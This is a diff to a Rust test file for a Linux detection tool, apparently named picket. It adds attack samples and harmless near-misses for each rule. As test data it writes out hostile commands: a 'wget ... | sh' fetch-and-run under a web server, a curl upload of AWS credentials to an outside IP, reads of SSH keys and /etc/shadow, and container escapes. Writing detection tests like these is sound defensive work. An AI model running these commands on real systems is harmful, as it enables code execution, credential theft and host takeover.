@@ -12,16 +12,21 @@ type Started<'a> = (&'a str, &'a str, &'a str);
 
 /// For each program, the titles of the rules that fire on it.
 fn findings(programs: &[Started<'_>]) -> Vec<Vec<String>> {
-    let folder = tempfile::tempdir().unwrap();
-    let file = folder.path().join("exec.ndjson");
-    let lines = programs.iter().map(|(parent, path, line)| {
-        let value = json!({
+    let started = |(parent, path, line): &Started<'_>| {
+        json!({
             "@timestamp": "2026-03-01T00:00:00Z",
             "process": {"pid": 7, "executable": path, "args": line.split(' ').collect::<Vec<_>>(),
                 "parent": {"pid": 5, "executable": parent}},
-        });
-        format!("{value}\n")
-    });
+        })
+    };
+    findings_in(&programs.iter().map(started).collect::<Vec<_>>())
+}
+
+/// The same for what programs did, in the names of the Elastic Common Schema.
+fn findings_in(events: &[Value]) -> Vec<Vec<String>> {
+    let folder = tempfile::tempdir().unwrap();
+    let file = folder.path().join("exec.ndjson");
+    let lines = events.iter().map(|event| format!("{event}\n"));
     fs::write(&file, lines.collect::<String>()).unwrap();
     let output = picket()
         .args(["replay", "exec", "--json", "--rules", SHIPPED])
@@ -29,11 +34,13 @@ fn findings(programs: &[Started<'_>]) -> Vec<Vec<String>> {
         .output()
         .unwrap();
     assert_eq!(String::from_utf8(output.stderr).unwrap(), "");
-    let mut found = vec![Vec::new(); programs.len()];
+    let mut found = vec![Vec::new(); events.len()];
     for line in String::from_utf8(output.stdout).unwrap().lines() {
         let finding: Value = serde_json::from_str(line).unwrap();
-        let at = usize::try_from(finding["line"].as_u64().unwrap()).unwrap();
-        found[at - 1].push(finding["rule"]["title"].as_str().unwrap().to_owned());
+        if finding["kind"] == "finding" {
+            let at = usize::try_from(finding["line"].as_u64().unwrap()).unwrap();
+            found[at - 1].push(finding["rule"]["title"].as_str().unwrap().to_owned());
+        }
     }
     found
 }
@@ -235,8 +242,99 @@ const CASES: &[(&str, Started<'_>, Started<'_>)] = &[
     ),
     (
         "Miner of coins",
+        (SHELL, "/home/bob/xmrig", "./xmrig"),
+        (SHELL, "/usr/bin/vi", "vi /home/bob/xmrig"),
+    ),
+    (
+        "Miner joined to a pool",
         (SHELL, "/opt/x", "./x -o stratum+tcp://198.51.100.9:3333 -u 4xyz"),
         (SHELL, "/usr/bin/grep", "grep -r stratum+tcp:// /var/log"),
+    ),
+    (
+        "Intruder's command run by an application server",
+        ("/usr/bin/node", "/bin/sh", "/bin/sh -c id; uname -a"),
+        ("/usr/bin/node", "/bin/sh", "/bin/sh -c identify -format %w a.png"),
+    ),
+    (
+        "Intruder's command run by an application server",
+        (
+            "/usr/local/bin/gunicorn",
+            "/bin/sh",
+            "sh -c wget -qO- http://198.51.100.9/a | sh",
+        ),
+        (
+            "/usr/local/bin/gunicorn",
+            "/bin/sh",
+            "sh -c wkhtmltopdf a.html a.pdf",
+        ),
+    ),
+    (
+        "Library preloaded from a folder that anybody may write to",
+        (SHELL, "/bin/sh", "sh -c LD_PRELOAD=/dev/shm/a.so ls"),
+        (
+            SHELL,
+            "/bin/sh",
+            "sh -c LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 redis-server",
+        ),
+    ),
+    (
+        "Job taken from a folder that anybody may write to",
+        (SHELL, "/usr/bin/crontab", "crontab /tmp/.x/c"),
+        (SHELL, "/usr/bin/crontab", "crontab /etc/site/crontab"),
+    ),
+    (
+        "Job taken from a folder that anybody may write to",
+        (
+            SHELL,
+            "/usr/bin/systemctl",
+            "systemctl enable --now /dev/shm/update.service",
+        ),
+        (SHELL, "/usr/bin/systemctl", "systemctl enable --now tmp.mount"),
+    ),
+    (
+        "Keys or password hashes read by a tool",
+        (SHELL, "/usr/bin/cat", "cat /home/bob/.ssh/id_ed25519"),
+        (SHELL, "/usr/bin/cat", "cat /home/bob/.ssh/id_ed25519.pub"),
+    ),
+    (
+        "Keys or password hashes read by a tool",
+        (SHELL, "/usr/bin/tar", "tar -czf - /etc/shadow /etc/passwd"),
+        (SHELL, "/usr/bin/tar", "tar -czf - /etc/passwd /etc/group"),
+    ),
+    (
+        "Keys or password hashes read by a tool",
+        (
+            SHELL,
+            "/usr/bin/curl",
+            "curl -F f=@/root/.aws/credentials http://198.51.100.9/",
+        ),
+        (
+            SHELL,
+            "/usr/bin/scp",
+            "scp -i /home/bob/.ssh/id_rsa a.tar backup@10.0.0.9:",
+        ),
+    ),
+    (
+        "Container started with the host inside",
+        (
+            SHELL,
+            "/usr/bin/docker",
+            "docker run -it -v /:/mnt alpine chroot /mnt",
+        ),
+        (
+            SHELL,
+            "/usr/bin/docker",
+            "docker run -d -v /srv/web:/usr/share/nginx/html nginx",
+        ),
+    ),
+    (
+        "Container started with the host inside",
+        (
+            SHELL,
+            "/usr/bin/podman",
+            "podman run --privileged --pid=host alpine sh",
+        ),
+        (SHELL, "/usr/bin/podman", "podman run --privileged docker:dind"),
     ),
 ];
 
@@ -255,6 +353,153 @@ fn each_rule_fires_on_its_attack_and_not_just_beside() {
     }
 }
 
+/// The same for what a command line alone does not tell: what is laid over a plain program that was started.
+const DEEDS: &[(&str, &str, &str)] = &[
+    (
+        "Connection made by a shell itself",
+        r#"{"event": {"category": "network", "type": "start"}, "destination": {"ip": "198.51.100.9", "port": 443}}"#,
+        r#"{"event": {"category": "network", "type": "start"}, "destination": {"ip": "127.0.0.1", "port": 5432}}"#,
+    ),
+    (
+        "Connection to a port of mining pools",
+        r#"{"event": {"category": "network", "type": "start"}, "process": {"executable": "/opt/x"},
+            "destination": {"ip": "2001:db8::9", "port": 3333}}"#,
+        r#"{"event": {"category": "network", "type": "start"}, "process": {"executable": "/opt/x"},
+            "destination": {"ip": "10.0.0.9", "port": 3333}}"#,
+    ),
+    (
+        "Program run from memory",
+        r#"{"process": {"executable": "/memfd:x"}, "picket": {"process": {"file": {"device": 1, "inode": 2, "memfd": true}}}}"#,
+        r#"{"process": {"executable": "/memfd:runc_cloned", "parent": {"executable": "/usr/bin/runc"}},
+            "picket": {"process": {"file": {"device": 1, "inode": 2, "memfd": true}}}}"#,
+    ),
+    (
+        "Program run from memory below a server",
+        r#"{"process": {"executable": "/memfd:x"}, "picket": {"process": {"file": {"device": 1, "inode": 2, "memfd": true},
+            "ancestors": [{"process": {"pid": 4, "start": 1}, "executable": "/usr/sbin/php-fpm8.2"}]}}}"#,
+        r#"{"picket": {"process": {"file": {"device": 1, "inode": 2},
+            "ancestors": [{"process": {"pid": 4, "start": 1}, "executable": "/usr/sbin/php-fpm8.2"}]}}}"#,
+    ),
+    (
+        "Program whose file was deleted",
+        r#"{"process": {"executable": "/home/bob/x"}, "picket": {"process": {"file": {"device": 1, "inode": 2, "unlinked": true}}}}"#,
+        r#"{"process": {"executable": "/usr/sbin/nginx"}, "picket": {"process": {"file": {"device": 1, "inode": 2, "unlinked": true}}}}"#,
+    ),
+    (
+        "Library preloaded from a folder that anybody may write to",
+        r#"{"process": {"env_vars": ["LD_PRELOAD=libfakeroot.so:/tmp/a.so"]}}"#,
+        r#"{"process": {"env_vars": ["LD_PRELOAD=/usr/lib/libfakeroot.so", "PWD=/tmp/a.so"]}}"#,
+    ),
+    (
+        "Root's rights through a set-uid tool",
+        r#"{"process": {"executable": "/usr/bin/find", "user": {"id": "0"}, "real_user": {"id": "1000"}}}"#,
+        r#"{"process": {"executable": "/usr/bin/passwd", "user": {"id": "0"}, "real_user": {"id": "1000"}}}"#,
+    ),
+    (
+        "Root's rights without a set-uid program",
+        r#"{"event": {"category": "process", "type": "change", "action": "privilege"}, "process": {"user": {"id": "0"}},
+            "picket": {"process": {"former_user": {"id": "33"}}}}"#,
+        r#"{"process": {"user": {"id": "0"}}}"#,
+    ),
+    (
+        "Way out of a container",
+        r#"{"process": {"executable": "/usr/bin/nsenter", "args": ["nsenter", "-t", "1", "-m", "sh"]}, "container": {"id": "ab"}}"#,
+        r#"{"process": {"executable": "/usr/bin/nsenter", "args": ["nsenter", "-t", "1", "-m", "sh"]}}"#,
+    ),
+    (
+        "Way out of a container",
+        r#"{"process": {"executable": "/usr/bin/curl", "args": ["curl", "--unix-socket", "/var/run/docker.sock", "http://d/images/json"]},
+            "container": {"id": "ab"}}"#,
+        r#"{"process": {"executable": "/usr/bin/curl", "args": ["curl", "http://app/docker.sock.txt"]}}"#,
+    ),
+    (
+        "Logging or protection stopped by a signal",
+        r#"{"event": {"category": "process", "type": "info", "action": "signal"},
+            "picket": {"signal": {"number": 9, "target": {"pid": 9, "executable": "/usr/sbin/rsyslogd"}}}}"#,
+        r#"{"event": {"category": "process", "type": "info", "action": "signal"},
+            "picket": {"signal": {"number": 1, "target": {"pid": 9, "executable": "/usr/sbin/rsyslogd"}}}}"#,
+    ),
+];
+
+/// An event with what a text lays over it.
+fn laid_over(text: &str) -> Value {
+    let mut event = json!({
+        "@timestamp": "2026-03-01T00:00:00Z",
+        "process": {"pid": 7, "executable": SHELL, "args": ["x"], "parent": {"pid": 5, "executable": SHELL}},
+    });
+    lay(&mut event, serde_json::from_str(text).unwrap());
+    event
+}
+
+fn lay(event: &mut Value, over: Value) {
+    match (event, over) {
+        (Value::Object(event), Value::Object(over)) => {
+            for (name, value) in over {
+                lay(event.entry(name).or_insert(Value::Null), value);
+            }
+        }
+        (event, over) => *event = over,
+    }
+}
+
+#[test]
+fn each_rule_about_more_than_a_command_line_fires_on_its_attack_and_not_just_beside() {
+    let attacks: Vec<Value> = DEEDS.iter().map(|(_, attack, _)| laid_over(attack)).collect();
+    let near: Vec<Value> = DEEDS.iter().map(|(_, _, near)| laid_over(near)).collect();
+    let (fired, missed) = (findings_in(&attacks), findings_in(&near));
+    for ((title, attack, near), (fired, missed)) in DEEDS.iter().zip(fired.iter().zip(&missed)) {
+        assert!(fired.iter().any(|fired| fired == title), "{attack}: {fired:?}");
+        assert!(missed.is_empty(), "{near}: {missed:?}");
+    }
+}
+
+/// For each rule that counts: so many events, each with the number in it, on which it fires with the last and not before.
+const COUNTED: &[(&str, usize, &str)] = &[
+    (
+        "Many files encrypted or renamed",
+        30,
+        r#"{"process": {"executable": "/usr/bin/openssl", "args": ["openssl", "enc", "-aes-256-cbc", "-in", "NUMBER"]}}"#,
+    ),
+    (
+        "Program that crashes again and again",
+        6,
+        r#"{"event": {"category": "process", "type": "end"}, "process": {"executable": "/usr/sbin/nginx"},
+            "picket": {"process": {"exit_signal": 11}}}"#,
+    ),
+    (
+        "One session looks around",
+        8,
+        r#"{"process": {"executable": "/usr/bin/COMMAND"}, "picket": {"process": {"session": 3}}}"#,
+    ),
+];
+
+#[test]
+fn each_rule_that_counts_fires_with_the_last_event_and_not_before() {
+    let commands = ["id", "whoami", "uname", "w", "ps", "ss", "ip", "last", "df"];
+    for (title, times, text) in COUNTED {
+        let event = |number: usize| {
+            let command = commands[number % commands.len()];
+            laid_over(
+                &text
+                    .replace("NUMBER", &number.to_string())
+                    .replace("COMMAND", command),
+            )
+        };
+        let events: Vec<Value> = (0..*times).map(event).collect();
+        let mut expected = vec![Vec::new(); times - 1];
+        expected.push(vec![(*title).to_owned()]);
+        assert_eq!(findings_in(&events), expected, "{title}");
+        // Spread over more than any of them looks at, and from different groups, it is nothing.
+        let apart = (0..*times).map(|number| {
+            let mut event = event(number);
+            event["@timestamp"] = format!("2026-03-01T{:02}:{:02}:00Z", number / 20, number % 20 * 3).into();
+            event
+        });
+        let apart: Vec<Value> = apart.collect();
+        assert_eq!(findings_in(&apart), vec![Vec::<String>::new(); *times], "{title}");
+    }
+}
+
 #[test]
 fn every_rule_about_programs_has_an_attack_here() {
     let output = picket()
@@ -262,15 +507,19 @@ fn every_rule_about_programs_has_an_attack_here() {
         .output()
         .unwrap();
     let rules: Vec<Value> = serde_json::from_slice(&output.stdout).unwrap();
-    let about_programs = rules
-        .iter()
-        .filter(|rule| rule["log_source"] == "linux, process_creation");
+    let about_programs = rules.iter().filter(|rule| {
+        let source = rule["log_source"].as_str().unwrap();
+        rule["reports"] == true && !source.contains("authentication")
+    });
     let titles: Vec<&str> = about_programs
         .map(|rule| rule["title"].as_str().unwrap())
         .collect();
-    assert_eq!(titles.len(), 12);
+    assert!(titles.len() > 25, "{titles:?}");
+    let mut tested = CASES.iter().map(|(title, _, _)| title).collect::<Vec<_>>();
+    tested.extend(DEEDS.iter().map(|(title, _, _)| title));
+    tested.extend(COUNTED.iter().map(|(title, _, _)| title));
     for title in titles {
-        assert!(CASES.iter().any(|(tested, _, _)| *tested == title), "{title}");
+        assert!(tested.contains(&&title), "{title}");
     }
 }
 
